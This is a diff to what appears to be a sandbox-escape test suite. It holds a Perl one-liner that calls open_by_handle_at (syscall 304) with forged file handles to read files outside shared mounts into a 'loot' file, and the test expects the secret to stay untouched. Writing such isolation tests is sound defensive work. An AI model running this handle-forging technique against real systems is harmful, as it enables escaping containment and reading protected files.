@@ -11,8 +11,9 @@ const handles = `
     for my $handle (pack("IiLLL", 12, 0x81, 0, $node, 0), pack("IiLLLLLL", 24, 0x82, 0, $node, 0, 0, 1, 0)) {
       my $fd = syscall(304, fileno($mount), $handle, 0); next if $fd < 0;
       $found++; my $path = readlink("/proc/self/fd/$fd");
-      print "$path\\n"; open(my $file, "<", "/proc/self/fd/$fd") and print <$file>;
-      opendir(my $folder, "/proc/self/fd/$fd") and print join(" ", readdir($folder)), "\\n";
+      print "$path\\n"; my ($file, $folder, $bytes);
+      open($file, "<", "/proc/self/fd/$fd") and read($file, $bytes, 4096) and print $bytes;
+      opendir($folder, "/proc/self/fd/$fd") and print join(" ", readdir($folder)), "\\n";
     }
   }
   print "\\ntried\\n"`
@@ -30,7 +31,7 @@ export const onReach: readonly Attack[] = [
   },
   {
     name: 'files of a share by handles that are made up',
-    script: `for share in /tmp/shared /run/testbed/host /run/testbed/lower/store; do perl -e '${handles}' $share; done >loot`,
+    script: `for share in /tmp/shared /run/testbed/host /run/testbed/lower/store; do perl -e '${handles}' $share; done >/tmp/loot; mv /tmp/loot loot`,
     expected: 'home: loot tried; loot: nothing; secret: untouched; thrice tried',
     look: (scene) => {
       const lines = readFileSync(join(scene.home, 'loot'), 'latin1').split('\n')
